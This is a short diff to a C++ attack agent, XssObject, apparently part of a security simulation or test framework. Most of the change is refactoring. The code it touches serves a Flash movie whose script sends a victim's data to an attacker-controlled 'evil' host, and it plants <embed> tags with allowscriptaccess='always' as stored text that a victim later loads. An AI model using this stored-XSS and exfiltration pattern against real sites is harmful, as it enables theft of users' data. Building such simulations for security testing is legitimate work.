@@ -13,10 +13,10 @@ class XssObject final : public Agent {
     void run(Target& target) override {
         OwnHost* evil = foreign_host(target);
         if (evil == nullptr || target.victim() == nullptr) return;
-        evil->answer(evil->folder() + "c", {.status = 204});
+        std::string const address = collecting_address(*evil);
         http::Response const movie{.status = 200,
                                    .headers = {{"content-type", std::string(kMovieType)}},
-                                   .body = taking_script(target, address_on(*evil, "c"))};
+                                   .body = taking_script(target, address)};
         evil->answer(evil->folder() + "m.swf", movie);
         std::vector<std::string> addresses{address_on(*evil, "m.swf")};
         if (OwnHost* shared = shared_host(target)) {
@@ -25,10 +25,10 @@ class XssObject final : public Agent {
         }
         StoredText text(target);
         std::vector<std::string> elements;
-        for (std::string const& address : addresses) {
-            elements.push_back(movie_html(address));
+        for (std::string const& movie_at : addresses) {
+            elements.push_back(movie_html(movie_at));
             elements.push_back("<embed type=\"" + std::string(kMovieType) +
-                               "\" src=" + in_quotes(address) + " allowscriptaccess=\"always\">");
+                               "\" src=" + in_quotes(movie_at) + " allowscriptaccess=\"always\">");
         }
         text.leave_all(elements);
         victim_reads_and_loot_is_used(target);
